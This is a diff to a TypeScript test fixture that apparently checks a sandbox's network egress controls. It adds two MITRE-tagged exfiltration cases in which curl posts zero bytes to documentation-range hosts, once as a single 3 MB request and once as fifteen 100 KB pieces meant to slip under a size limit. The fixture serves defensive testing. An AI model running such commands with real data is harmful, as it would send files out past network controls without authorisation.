@@ -5,7 +5,7 @@ const both = { endpoint: STOPPED, gateway: STOPPED } as const
 const plain = { says: /hello from/ } as const
 const canary = { says: /^canary$/m } as const
 
-/** Ways to somewhere else, or with something else than what may leave. */
+/** Ways to somewhere else, or with something else or more than what may leave. */
 export const CONNECTIONS: readonly Attack[] = [
   {
     technique: 'T1071.001 Web Protocols',
@@ -233,5 +233,25 @@ export const CONNECTIONS: readonly Attack[] = [
       'without BPF security modules in the kernel, root may use packet sockets under `up`; `run` takes the capability away',
     ),
     gateway: STOPPED,
+  },
+  {
+    technique: 'T1048.003 Exfiltration Over Unencrypted Non-C2 Protocol',
+    what: 'more than may leave, by a connection that is allowed',
+    tool: 'curl',
+    under: 'limited',
+    attempt: 'head -c 3000000 /dev/zero | curl -sS -m 5 --data-binary @- http://198.51.100.20/',
+    through: { says: /^3000000$/m },
+    flows: /^198\.51\.100\.20 80$/,
+    ...both,
+  },
+  {
+    technique: 'T1030 Data Transfer Size Limits',
+    what: 'more than may leave, in pieces by connections of their own',
+    tool: 'curl',
+    under: 'limited',
+    attempt: `for piece in $(seq 15); do head -c 100000 /dev/zero | curl -sS -m 5 --data-binary @- http://198.51.100.10/ || break; done | grep -c 100000`,
+    through: { says: /^15$/m },
+    flows: /^198\.51\.100\.10 80$/,
+    ...both,
   },
 ]
